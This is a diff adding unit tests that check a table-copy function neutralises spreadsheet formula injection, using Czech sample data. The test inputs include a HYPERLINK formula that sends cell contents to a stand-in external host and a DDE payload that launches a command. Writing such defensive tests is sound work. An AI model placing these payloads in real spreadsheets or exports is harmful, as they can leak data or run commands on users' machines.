@@ -56,6 +56,28 @@ describe('copied rows', () => {
     ).toMatchObject({ text: 'Název\tPoznámka\r\nŘíčany\ta b c\r\nČáp\t', rowCount: 2 })
   })
 
+  it.each([
+    '=HYPERLINK("http://elsewhere.example/?"&A1,"Otevřít")',
+    ' =1+1',
+    '"=1+1"',
+    '\u200b=1+1',
+    '@SUM(A1)',
+    "+cmd|' /C calc'!A0",
+    '-2+3+cmd|x',
+    '＝1+1',
+  ])('32 are never a formula where they are pasted: %s', (text) => {
+    const copied = copiedTable(columns, [[text, '']])
+    expect(copied.text.split('\r\n')[1]).toMatch(/^'/)
+    expect(copied.html).toContain(`"\\@"'>'`)
+  })
+
+  it.each(['+420 777 123 456', '+420-777-123', '-5', '–', 'a = b', 'jana@obec.example'])(
+    'stay as they are where they do nothing: %s',
+    (text) => {
+      expect(copiedTable(columns, [[text, '']]).text).toContain(`\r\n${text}\t`)
+    },
+  )
+
   it('are cells of text for a spreadsheet, and never more than text', () => {
     const { html } = copiedTable(columns, [['00007064', '<b>"A" & B</b>']])
     expect(html).toContain(`<td style='mso-number-format:"\\@"'>00007064</td>`)
